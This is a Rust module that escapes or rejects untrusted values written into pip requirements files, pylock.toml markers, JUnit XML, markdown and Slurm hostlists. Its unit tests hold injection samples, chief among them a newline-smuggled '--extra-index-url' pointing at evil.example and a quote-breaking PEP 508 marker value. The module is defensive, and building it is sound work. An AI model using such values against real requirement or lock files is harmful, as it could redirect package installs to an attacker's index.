//! The one writer of text another tool parses: requirements and constraints
//! files (pip), `pylock.toml` (TOML, and the PEP 508 markers in it), JUnit
//! (XML), markdown (CommonMark and GitHub's tables) and Slurm hostlists.
//!
//! The values written come from strangers (a Snapshot, a lock, a package's
//! metadata, a fleet report), and each format has a way for a value to leave
//! its line or field: a newline in a pip comment starts an option line of its
//! own (`--extra-index-url http://evil.example/simple`), a `<` in XML starts an
//! element, a `|` in a table cell starts a cell, a `[` in a node name starts a
//! range of 4,987 nodes. Every renderer of these formats writes each value
//! through a function of this module, which escapes what the format can carry
//! escaped and refuses what it cannot; `tests/it/writer_architecture.rs` fails
//! when a renderer interpolates a value that did not come through here.
//!
//! The functions are named for their format (`pip_`, `xml_`, `md_`, `toml_`,
//! `hostlist_`), so that the architecture test can tell them from others.

use std::fmt;

/// A value that cannot be written into its line or field, and why: the caller
/// names the file and the place it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    pub problem: String,
}

impl fmt::Display for Refused {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        out.write_str(&self.problem)
    }
}

impl std::error::Error for Refused {}

fn refused(problem: String) -> Refused {
    Refused { problem }
}

/// The characters at which Python's `str.splitlines` ends a line, which is
/// how pip splits a requirements file (`pip._internal.req.req_file.preprocess`):
/// `\n`, `\r`, `\v`, `\f`, `\x1c`-`\x1e`, `\x85`, U+2028 and U+2029. A value
/// that holds one of them would start a line of its own.
pub fn breaks_a_python_line(character: char) -> bool {
    matches!(
        character,
        '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}' | '\u{1d}' | '\u{1e}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

// ---------------------------------------------------------------------------
// pip: requirements and constraints files

/// The text of a pip comment: every control character, line separator and
/// bidirectional control written as an escape ([`crate::escape::controls`]),
/// so that it cannot end the comment's line.
pub fn pip_comment(text: &str) -> String {
    let escaped = crate::escape::controls(text);
    // escape::controls covers every line break of splitlines; should it ever
    // not, the character is still written out rather than kept.
    if escaped.chars().any(breaks_a_python_line) {
        return escaped
            .chars()
            .map(|c| {
                if breaks_a_python_line(c) {
                    format!("\\u{{{:x}}}", u32::from(c))
                } else {
                    c.to_string()
                }
            })
            .collect();
    }
    escaped.into_owned()
}

/// The option an index is given with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PipIndexOption {
    IndexUrl,
    ExtraIndexUrl,
}

impl PipIndexOption {
    pub fn flag(self) -> &'static str {
        match self {
            PipIndexOption::IndexUrl => "--index-url",
            PipIndexOption::ExtraIndexUrl => "--extra-index-url",
        }
    }
}

/// A requirements or constraints file as pip reads it, line by line: comments
/// are escaped, and an option, a requirement or a hash that would not stay
/// one token of its own line is refused.
#[derive(Debug, Default)]
pub struct PipFile {
    text: String,
}

impl PipFile {
    pub fn new() -> PipFile {
        PipFile::default()
    }

    /// `# text`, on one line whatever `text` holds.
    pub fn pip_comment_line(&mut self, text: &str) {
        self.text.push('#');
        if !text.is_empty() {
            self.text.push(' ');
            self.text.push_str(&pip_comment(text));
        }
        self.text.push('\n');
    }

    pub fn pip_blank_line(&mut self) {
        self.text.push('\n');
    }

    /// `--index-url URL` or `--extra-index-url URL`.
    pub fn pip_index_line(&mut self, option: PipIndexOption, url: &str) -> Result<(), Refused> {
        if url.is_empty() || url.starts_with('-') || url.chars().any(|c| c.is_whitespace() || unsafe_in_a_line(c)) {
            return Err(refused(format!(
                "the index URL \"{}\" would not stay one value of its line",
                crate::escape::one_line(url)
            )));
        }
        self.text.push_str(option.flag());
        self.text.push(' ');
        self.text.push_str(url);
        self.text.push('\n');
        Ok(())
    }

    /// One requirement (`name==version`, `name @ url`, `-e path`), with the
    /// `--hash=algorithm:digest` options pip checks it against, one per
    /// continued line.
    pub fn pip_requirement_line(&mut self, requirement: &str, hashes: &[(&str, &str)]) -> Result<(), Refused> {
        let bare = requirement.strip_prefix("-e ").unwrap_or(requirement);
        let problem = if bare.is_empty() || bare.starts_with('-') {
            Some("would be read as an option")
        } else if bare
            .chars()
            .any(|c| (c.is_whitespace() && c != ' ') || unsafe_in_a_line(c))
        {
            Some("holds a line break, a control or a bidirectional character")
        } else if bare.contains(" #") || bare.ends_with('\\') {
            Some("would end in a comment or continue on the next line")
        } else {
            None
        };
        if let Some(problem) = problem {
            return Err(refused(format!(
                "the requirement \"{}\" {problem}",
                crate::escape::one_line(requirement)
            )));
        }
        for (algorithm, digest) in hashes {
            let token =
                |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
            if !token(algorithm) || !token(digest) {
                return Err(refused(format!(
                    "the hash \"{}\" of {requirement} is not an algorithm and a hex digest",
                    crate::escape::one_line(&format!("{algorithm}:{digest}"))
                )));
            }
        }
        self.text.push_str(requirement);
        for (algorithm, digest) in hashes {
            self.text.push_str(" \\\n    --hash=");
            self.text.push_str(algorithm);
            self.text.push(':');
            self.text.push_str(digest);
        }
        self.text.push('\n');
        Ok(())
    }

    pub fn finish(self) -> String {
        self.text
    }
}

/// Control characters, line separators and bidirectional controls: what must
/// never be written raw into a line another tool reads.
fn unsafe_in_a_line(character: char) -> bool {
    character.is_control() || breaks_a_python_line(character) || crate::escape::is_bidi_control(character)
}

// ---------------------------------------------------------------------------
// TOML (pylock.toml): toml_edit writes every string as a TOML string, escaped.
// What it cannot know is the PEP 508 marker built inside one.

/// A value quoted inside a PEP 508 marker (`platform_machine == 'x86_64'`):
/// a quote, a control character or a backslash would end the marker's string
/// or make it something else, so such a value is refused.
pub fn toml_marker_value(value: &str) -> Result<&str, Refused> {
    if value.is_empty()
        || value
            .chars()
            .any(|c| matches!(c, '\'' | '"' | '\\') || c.is_whitespace() || unsafe_in_a_line(c))
    {
        return Err(refused(format!(
            "\"{}\" cannot be quoted in a PEP 508 marker",
            crate::escape::one_line(value)
        )));
    }
    Ok(value)
}

/// `requires-python` for the minor version of `version` (`3.11.9` gives
/// `==3.11.*`); a version whose first two parts are not numbers is refused
/// rather than written as a specifier that says something else.
pub fn toml_requires_python(version: &str) -> Result<String, Refused> {
    let minor: Vec<&str> = version.split('.').take(2).collect();
    if minor.len() != 2
        || minor
            .iter()
            .any(|part| part.is_empty() || !part.bytes().all(|b| b.is_ascii_digit()))
    {
        return Err(refused(format!(
            "the Python version \"{}\" is not MAJOR.MINOR[.PATCH]",
            crate::escape::one_line(version)
        )));
    }
    Ok(format!("=={}.*", minor.join(".")))
}

// ---------------------------------------------------------------------------
// XML (JUnit)

/// XML 1.0 text and attribute escaping. Control characters XML cannot carry
/// at all (a stray byte in a package's metadata) are dropped; bidirectional
/// controls are written as character references, so a CI page shows them
/// for what they are instead of reordering the text around them.
pub fn xml_text(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&apos;"),
            '\t' | '\n' | '\r' => escaped.push(character),
            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => {}
            c if crate::escape::is_bidi_control(c) => escaped.push_str(&format!("&#x{:X};", u32::from(c))),
            c => escaped.push(c),
        }
    }
    escaped
}

// ---------------------------------------------------------------------------
// Markdown

/// Text that must not start markup of its own (emphasis, links, HTML), except
/// `code spans`, which findings use for paths and commands and which markdown
/// already shows literally. It stays on its line: a newline is the space
/// markdown would make of it, and other control characters are escaped.
pub fn md_inline(text: &str) -> String {
    let text = crate::escape::controls(&text.replace('\n', " ")).into_owned();
    let mut escaped = String::with_capacity(text.len());
    let mut in_code = false;
    for character in text.chars() {
        if character == '`' {
            in_code = !in_code;
        } else if !in_code && matches!(character, '\\' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '|') {
            escaped.push('\\');
        }
        escaped.push(character);
    }
    if in_code {
        // An unpaired backtick would swallow the rest; close the span.
        escaped.push('`');
    }
    escaped
}

/// A table cell: inline text on one line, and no `|` even in a code span,
/// where GitHub's tables would still split the cell.
pub fn md_cell(text: &str) -> String {
    md_inline(&text.replace('|', "/"))
}

/// Text from input as one code span: delimited by more backticks than it
/// holds in a row, so no backtick in it can end the span early (CommonMark
/// 6.1), and on one line.
pub fn md_code(text: &str) -> String {
    let text = crate::escape::controls(text);
    let fence = "`".repeat(longest_backtick_run(&text) + 1);
    let padding = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{padding}{text}{padding}{fence}")
}

/// A code span in a table cell: GitHub splits cells at `|` even there.
pub fn md_code_cell(text: &str) -> String {
    md_code(&text.replace('|', "/"))
}

/// A command as a fenced `sh` block whose fence no line of it can close.
pub fn md_code_block(command: &str) -> String {
    let command = crate::escape::controls(command);
    let fence = "`".repeat((longest_backtick_run(&command) + 1).max(3));
    format!("{fence}sh\n{command}\n{fence}")
}

/// A reference as an autolink when it is a plain URL, else as text.
pub fn md_link(reference: &str) -> String {
    let plain = reference.starts_with("https://") || reference.starts_with("http://");
    if plain
        && !reference
            .chars()
            .any(|c| c.is_whitespace() || unsafe_in_a_line(c) || "<>".contains(c))
    {
        format!("<{reference}>")
    } else {
        md_inline(reference)
    }
}

fn longest_backtick_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

// ---------------------------------------------------------------------------
// Slurm hostlists

/// A node name as Slurm's hostlist syntax takes it: `[` and `]` open and close
/// a range, `,` separates names, whitespace and control characters end the
/// argument. Slurm has no escape for them, so a name holding one is refused:
/// `gpu-[0004-4990]` written verbatim into a list for `--exclude` would
/// exclude 4,987 healthy nodes.
pub fn hostlist_name(name: &str) -> Result<&str, Refused> {
    let bad = name
        .chars()
        .find(|&c| matches!(c, '[' | ']' | ',') || c.is_whitespace() || unsafe_in_a_line(c));
    match bad {
        None if !name.is_empty() => Ok(name),
        None => Err(refused(
            "an empty node name cannot be written in a Slurm hostlist".to_string(),
        )),
        Some(character) => Err(refused(format!(
            "the node name \"{}\" holds \"{}\", which Slurm's hostlist syntax reads as its own \
             (a range, a list or the end of the argument); it cannot be written in a hostlist",
            crate::escape::one_line(name),
            crate::escape::one_line(&character.to_string())
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pip_comment_never_ends_its_line() {
        for breaker in ['\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{85}', '\u{2028}', '\u{2029}'] {
            let mut file = PipFile::new();
            file.pip_comment_line(&format!(
                "glibc 2.35{breaker}--extra-index-url http://evil.example/simple"
            ));
            let text = file.finish();
            assert_eq!(text.matches('\n').count(), 1, "{text:?}");
            assert!(!text.chars().any(|c| c != '\n' && breaks_a_python_line(c)), "{text:?}");
        }
    }

    #[test]
    fn requirements_and_indexes_that_would_leave_their_line_are_refused() {
        let mut file = PipFile::new();
        assert!(file.pip_requirement_line("torch==2.3.1", &[("sha256", "ab12")]).is_ok());
        assert!(file.pip_requirement_line("-e /src/x", &[]).is_ok());
        for bad in ["x\u{2028}--index-url y", "--index-url=y", "x #c", "x\\", "", "x\ty"] {
            assert!(file.pip_requirement_line(bad, &[]).is_err(), "{bad:?}");
        }
        assert!(
            file.pip_requirement_line("x==1", &[("sha256", "ab\n--index-url")])
                .is_err()
        );
        assert!(
            file.pip_index_line(PipIndexOption::ExtraIndexUrl, "https://x/simple")
                .is_ok()
        );
        assert!(
            file.pip_index_line(PipIndexOption::IndexUrl, "https://x/ --trusted-host y")
                .is_err()
        );
        assert_eq!(
            file.finish(),
            "torch==2.3.1 \\\n    --hash=sha256:ab12\n-e /src/x\n--extra-index-url https://x/simple\n"
        );
    }

    #[test]
    fn escapes_markup_and_drops_what_xml_cannot_carry() {
        assert_eq!(
            xml_text("a<b & \"c\"\u{1}\u{202e}"),
            "a&lt;b &amp; &quot;c&quot;&#x202E;"
        );
    }

    #[test]
    fn markdown_input_cannot_end_a_code_span_or_block_or_leave_its_line() {
        assert_eq!(md_code("a`b"), "``a`b``");
        assert_eq!(md_code("`x"), "`` `x ``");
        assert_eq!(md_code("a\nb"), "`a\\nb`");
        assert_eq!(md_code_cell("a|b"), "`a/b`");
        assert_eq!(md_code_block("pip install 'x```'"), "````sh\npip install 'x```'\n````");
        assert_eq!(md_inline("a\n## forged\x1b"), "a \\#\\# forged\\\\x1b");
        assert_eq!(md_link("https://x.example/a b"), "https://x.example/a b");
        assert_eq!(md_link("https://x.example/a"), "<https://x.example/a>");
    }

    #[test]
    fn marker_values_and_host_names_that_would_change_their_syntax_are_refused() {
        assert_eq!(toml_marker_value("x86_64"), Ok("x86_64"));
        assert!(toml_marker_value("x86_64' or '1'=='1").is_err());
        assert!(toml_marker_value("a\nb").is_err());
        assert_eq!(hostlist_name("gpu-017"), Ok("gpu-017"));
        for bad in ["gpu-[0004-4990]", "a,b", "a b", "a\nb", "", "a\u{202e}b"] {
            assert!(hostlist_name(bad).is_err(), "{bad:?}");
        }
    }
}
